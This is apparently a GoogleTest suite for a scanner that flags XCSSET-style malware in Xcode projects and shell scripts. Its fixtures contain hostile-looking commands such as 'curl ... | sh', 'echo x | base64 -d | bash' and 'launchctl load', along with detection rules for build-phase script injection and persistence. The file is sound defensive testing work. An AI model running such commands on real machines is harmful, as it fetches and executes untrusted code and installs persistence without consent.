#include "detectors/xcsset/XCSSETScanner.h"

#include <gtest/gtest.h>

#include "support/RowName.h"

#include <algorithm>
#include <thread>

#include "platform/Base64.h"
#include "support/TempTree.h"

namespace quillon::detectors::xcsset {
namespace {

using platform::FileURL;
using Strings = std::vector<std::string>;

const std::string kAbc10 = [] {
    std::string s;
    for (int i = 0; i < 10; ++i)
        s += "QUJD";  // "ABC" each
    return s;
}();

std::string repeat(std::string_view unit, int times) {
    std::string out;
    for (int i = 0; i < times; ++i)
        out += unit;
    return out;
}

TEST(XCSSETScanner, CanScanByLowercasedExtension) {
    const XCSSETScanner scanner(platform::nullOutput());
    for (const char* yes : {"/p/a.xcconfig", "/p/Assets.xcassets", "/p/project.pbxproj", "/p/x.sh",
                            "/p/PROJECT.PBXPROJ", "/p/BUILD.SH"}) {
        SCOPED_TRACE(yes);
        EXPECT_TRUE(scanner.canScan(FileURL(yes, false)));
    }
    for (const char* no :
         {"/p/main.swift", "/p/Info.plist", "/p/a.json", "/p/Makefile", "/p/.sh"}) {
        SCOPED_TRACE(no);
        EXPECT_FALSE(scanner.canScan(FileURL(no, false)));
    }
}

struct CandidateCase {
    const char* name;
    std::string content;
    Strings encoded;
    friend void PrintTo(const CandidateCase& row, std::ostream* os) { *os << row.name; }
};

class CandidateCases : public ::testing::TestWithParam<CandidateCase> {};

TEST_P(CandidateCases, EncodedStrings) {
    const XCSSETScanner scanner(platform::nullOutput());
    const auto context = scanner.buildContext(FileURL("/p/run.sh", false), GetParam().content);
    EXPECT_EQ(context.encodedStrings, GetParam().encoded);
}

INSTANTIATE_TEST_SUITE_P(
    Table, CandidateCases,
    ::testing::Values(
        CandidateCase{"empty", "", {}},
        CandidateCase{"run39", " " + std::string(39, 'A') + " ", {}},
        CandidateCase{"run40", " " + kAbc10 + " ", {kAbc10}},
        CandidateCase{"run41", kAbc10 + "Q", {}}, CandidateCase{"run42", kAbc10 + "QU", {}},
        CandidateCase{"run43", kAbc10 + "QUJ", {}},
        CandidateCase{"run44", kAbc10 + "QUJD", {kAbc10 + "QUJD"}},
        CandidateCase{"alphabetIs65", std::string(XCSSETScanner::kBase64Alphabet), {}},
        CandidateCase{"echo24", "echo \"" + repeat("QUJD", 6) + "\"", {repeat("QUJD", 6)}},
        CandidateCase{"echoInCapitals", "ECHO '" + repeat("QUJD", 6) + "'", {repeat("QUJD", 6)}},
        CandidateCase{"echoJoinsLineFeedsAndSpaces",
                      "echo \"QUJDQUJD\nQUJD QUJD\n  QUJDQUJD\"",
                      {repeat("QUJD", 6)}},
        CandidateCase{
            "echoRejectsCarriageReturns", "echo \"QUJDQUJD\r\nQUJDQUJD\r\nQUJDQUJD\"", {}},
        CandidateCase{"echoAcrossLinesAfterCommand",
                      "echo\n  \"" + repeat("QUJD", 5) + "\"",
                      {repeat("QUJD", 5)}},
        CandidateCase{"echoShortOf20", "echo \"" + repeat("QUJD", 4) + "QUJ\"", {}},
        CandidateCase{"foundByBothStagesOnce", "echo \"" + kAbc10 + "\"", {kAbc10}},
        CandidateCase{"sameRunTwiceOnce", kAbc10 + " " + kAbc10, {kAbc10}},
        CandidateCase{"printfLastQuotedArgument",
                      "printf '%s' \"" + repeat("QUJD", 5) + "\" | base64 -d",
                      {repeat("QUJD", 5)}},
        CandidateCase{"stageAThenStageB",
                      "echo \"" + repeat("QUJD", 6) + "\"\n" + repeat("QUFB", 10),
                      {repeat("QUFB", 10), repeat("QUJD", 6)}}),
    testing::RowName());

TEST(XCSSETScanner, DecodedPayloadsAreTheUtf8Candidates) {
    const XCSSETScanner scanner(platform::nullOutput());
    const std::string notUtf8 = std::string(40, '/');  // decodes to 0xFF bytes
    const auto context = scanner.buildContext(FileURL("/p/run.sh", false), notUtf8 + " " + kAbc10);
    EXPECT_EQ(context.encodedStrings, (Strings{notUtf8, kAbc10}));
    EXPECT_EQ(context.decodedPayloads, (Strings{repeat("ABC", 10)}));
}

TEST(XCSSETScanner, DependencyPaths) {
    const std::pair<const char*, bool> cases[] = {
        {"/p/Pods/Lib/run.sh", true},
        {"/p/App/PODS/run.sh", true},
        {"/p/Carthage/Checkouts/x.sh", true},
        {"/p/swiftpm/x.sh", true},
        {"/p/.swiftpm/xcode/x.xcconfig", false},
        {"/p/SourcePackages/checkouts/x.sh", true},
        {"/p/DerivedData/x.sh", true},
        {"/p/deep/a/.build/debug/x.sh", true},
        {"/p/MyPackage.swift", true},
        {"/p/Package.SWIFT", true},
        {"/p/podsfile/x.sh", false},
        {"/p/App/Sources/x.sh", false},
    };
    for (const auto& [path, expected] : cases) {
        SCOPED_TRACE(path);
        EXPECT_EQ(XCSSETScanner::isDependencyPath(FileURL(path, false)), expected);
    }
}

TEST(XCSSETScanner, SeverityBoundaries) {
    const std::pair<std::int64_t, const char*> cases[] = {
        {0, ""},
        {29, ""},
        {30, "SEVERITY: MEDIUM suspicion"},
        {59, "SEVERITY: MEDIUM suspicion"},
        {60, "SEVERITY: HIGH suspicion"},
        {89, "SEVERITY: HIGH suspicion"},
        {90, "SEVERITY: CRITICAL (XCSSET-like behavior)"},
        {755, "SEVERITY: CRITICAL (XCSSET-like behavior)"},
    };
    for (const auto& [score, line] : cases) {
        SCOPED_TRACE(score);
        EXPECT_EQ(XCSSETScanner::severityLine(score), line);
    }
}

struct RuleCase {
    const char* name;
    const char* path;
    std::string content;
    std::int64_t score;
    Strings findings;
    friend void PrintTo(const RuleCase& row, std::ostream* os) { *os << row.name; }
};

class RuleCases : public ::testing::TestWithParam<RuleCase> {};

TEST_P(RuleCases, ScoreAndFindings) {
    const XCSSETScanner scanner(platform::nullOutput());
    const auto context = scanner.buildContext(FileURL(GetParam().path, false), GetParam().content);
    const auto result = scanner.score(context);
    EXPECT_EQ(result.riskScore, GetParam().score);
    EXPECT_EQ(result.findings, GetParam().findings);
    EXPECT_EQ(result.file, context.file);
}

const std::string kCritical = "SEVERITY: CRITICAL (XCSSET-like behavior)";
const std::string kHigh = "SEVERITY: HIGH suspicion";
const std::string kMedium = "SEVERITY: MEDIUM suspicion";
const std::string kCurl = "CRITICAL: remote download \u2192 execution (curl | bash)";
const std::string kBase64Chain = "CRITICAL: base64 decoded execution chain";
const std::string kEchoChain = "CRITICAL: echo \u2192 base64 \u2192 bash injection chain";
const std::string kChmod = "HIGH: executable permission escalation (chmod detected)";
const std::string kUrl = "MEDIUM: remote URL reference detected";
const std::string kProject = "HIGH: Xcode project file";
const std::string kInjection = "CRITICAL: Xcode build-phase script injection";
const std::string kDecoded = "CRITICAL: decoded executable payload present";
const std::string kPersistence = "HIGH: persistence mechanism detected";
const std::string kDependency = "INFO: dependency path (ignored in scoring)";

INSTANTIATE_TEST_SUITE_P(
    Table, RuleCases,
    ::testing::Values(
        RuleCase{"nothing", "/p/a.sh", "print hello", 0, {}},
        RuleCase{"curlIntoShellCapped",
                 "/p/a.sh",
                 "curl -fsSL http://example.invalid/i | sh",
                 100,
                 {kCritical, kCurl, kUrl}},
        RuleCase{"urlAlone", "/p/a.sh", "see https://example.invalid", 50, {kMedium, kUrl}},
        RuleCase{"chmodPlusX", "/p/a.sh", "chmod +x tool", 60, {kHigh, kChmod}},
        RuleCase{"chmod777", "/p/a.sh", "chmod 777 tool", 60, {kHigh, kChmod}},
        RuleCase{"chmodInCapitals", "/p/a.xcconfig", "CHMOD +X tool", 60, {kHigh, kChmod}},
        RuleCase{"chmod755", "/p/a.sh", "chmod 755 tool", 0, {}},
        RuleCase{"chmodTwoSpaces", "/p/a.sh", "chmod  +x tool", 0, {}},
        RuleCase{"base64AndShInsideAWord", "/p/a.sh", "base64 push", 85, {kHigh, kBase64Chain}},
        RuleCase{"echoBase64Bash",
                 "/p/a.sh",
                 "echo x | base64 -d | bash",
                 100,
                 {kCritical, kBase64Chain, kEchoChain}},
        RuleCase{"persistence", "/p/a.sh", "launchctl load x", 70, {kHigh, kPersistence}},
        RuleCase{
            "launchAgentsFolder", "/p/a.sh", "~/Library/LaunchAgents", 70, {kHigh, kPersistence}},
        RuleCase{
            "projectFileAlone", "/p/project.pbxproj", "// !$*UTF8*$!", 40, {kMedium, kProject}},
        RuleCase{"projectFileWithScriptPhase",
                 "/p/project.pbxproj",
                 "isa = PBXShellScriptBuildPhase;",
                 100,
                 {kCritical, kProject, kInjection}},
        RuleCase{"runScriptKeyword",
                 "/p/project.pbxproj",
                 "RunScript",
                 100,
                 {kCritical, kProject, kInjection}},
        RuleCase{"projectExtensionInCapitals", "/p/project.PBXPROJ", "shellScript = x", 0, {}},
        RuleCase{"notUtf8Candidate",
                 "/p/a.sh",
                 std::string(40, '/'),
                 60,
                 {kHigh, "HIGH: Base64 payloads detected (1)"}},
        RuleCase{"decodedCandidates",
                 "/p/a.xcconfig",
                 kAbc10 + " " + repeat("QUFB", 10) + " " + kAbc10,
                 100,
                 {kCritical, "HIGH: Base64 payloads detected (2)", kDecoded}},
        RuleCase{"dependencyKeepsFindingsScoresZero",
                 "/p/Pods/x/run.sh",
                 "curl x | bash",
                 0,
                 {kDependency, kCurl}}),
    testing::RowName());

TEST(XCSSETScanner, ReportLines) {
    platform::MemoryLineWriter output;
    const XCSSETScanner scanner(output);
    const std::string long84 = repeat("QUJD", 21);
    const std::string short44 = kAbc10 + "QUJD";
    const auto context = scanner.buildContext(FileURL("/p/a.sh", false), long84 + " " + short44);
    scanner.printReport(scanner.score(context), context);
    EXPECT_EQ(output.lines(),
              (Strings{"\n==============================", "\U0001F4C1 FILE: /p/a.sh",
                       "\u26A0\uFE0F SCORE: 100", "\u2022 " + kCritical,
                       "\u2022 HIGH: Base64 payloads detected (2)", "\u2022 " + kDecoded,
                       "\n\U0001F510 Base64 payloads detected:",
                       "\u2192 " + long84.substr(0, 80) + "...", "\u2192 " + short44 + "...",
                       "\n\U0001F9EC DECODED PAYLOADS:", "\u2192 " + repeat("ABC", 21),
                       "\u2192 " + repeat("ABC", 11), "==============================\n"}));
}

TEST(XCSSETScanner, PayloadCutAtTwoHundredGraphemesKeepsAnEmojiWhole) {
    const std::string thumb = "\xF0\x9F\x91\x8D\xF0\x9F\x8F\xBD";  // thumbs up, skin tone
    const std::string payload = std::string(199, 'a') + thumb + "tail";
    platform::MemoryLineWriter output;
    const XCSSETScanner scanner(output);
    const auto context =
        scanner.buildContext(FileURL("/p/a.sh", false), platform::encodeBase64(payload));
    ASSERT_EQ(context.decodedPayloads, Strings{payload});
    scanner.printReport(scanner.score(context), context);
    const auto lines = output.lines();
    ASSERT_GE(lines.size(), 2u);
    EXPECT_EQ(lines[lines.size() - 2], "\u2192 " + std::string(199, 'a') + thumb);
}

TEST(XCSSETScanner, ScanReadsReportsAndFoldsFailures) {
    testing::TempTree tree;
    tree.write("empty.sh", "");
    tree.mkdir("Assets.xcassets");
    tree.write("bad.sh", "curl x | sh \xFF");  // not UTF-8: still read and judged
    platform::MemoryLineWriter output;
    const XCSSETScanner scanner(output);

    const auto empty = scanner.scan(tree.fileURL("empty.sh"));
    EXPECT_EQ(empty.riskScore, 0);
    EXPECT_TRUE(empty.findings.empty());
    EXPECT_EQ(output.lines().size(), 4u);  // rule, file, score, rule

    const auto catalogue = scanner.scan(FileURL(tree.path("Assets.xcassets"), true));
    EXPECT_EQ(catalogue, (core::ScanResult{FileURL(tree.path("Assets.xcassets"), true), 0, {}}));
    EXPECT_EQ(scanner.scan(tree.fileURL("missing.sh")).riskScore, 0);
    EXPECT_EQ(output.lines().size(), 4u);  // nothing printed for unreadable files

    EXPECT_EQ(scanner.scan(tree.fileURL("bad.sh")).findings, (Strings{kCritical, kCurl}));
}

TEST(XCSSETScanner, OneInstanceOnManyThreads) {
    testing::TempTree tree;
    const std::vector<std::pair<std::string, std::string>> files = {
        {"a.sh", "chmod +x a"}, {"b.sh", "launchctl load"}, {"c.sh", kAbc10}, {"d.sh", "plain"}};
    for (const auto& [name, content] : files) {
        tree.write(name, content);
    }
    platform::MemoryLineWriter sequentialOutput;
    std::vector<core::ScanResult> expected;
    for (const auto& [name, content] : files) {
        expected.push_back(XCSSETScanner(sequentialOutput).scan(tree.fileURL(name)));
    }
    Strings expectedLines = sequentialOutput.lines();

    platform::MemoryLineWriter output;
    const XCSSETScanner shared(output);
    constexpr int kRounds = 25;
    std::vector<std::thread> threads;
    std::vector<bool> ok(files.size(), true);
    for (std::size_t t = 0; t < files.size(); ++t) {
        threads.emplace_back([&, t] {
            for (int round = 0; round < kRounds; ++round) {
                if (!(shared.scan(tree.fileURL(files[t].first)) == expected[t])) {
                    ok[t] = false;
                }
            }
        });
    }
    for (auto& thread : threads) {
        thread.join();
    }
    EXPECT_EQ(ok, std::vector<bool>(files.size(), true));
    // Every line arrived whole: the lines are the sequential run's lines, kRounds times each.
    Strings lines = output.lines();
    Strings want;
    for (int round = 0; round < kRounds; ++round) {
        want.insert(want.end(), expectedLines.begin(), expectedLines.end());
    }
    std::sort(lines.begin(), lines.end());
    std::sort(want.begin(), want.end());
    EXPECT_EQ(lines, want);
}

}  // namespace
}  // namespace quillon::detectors::xcsset
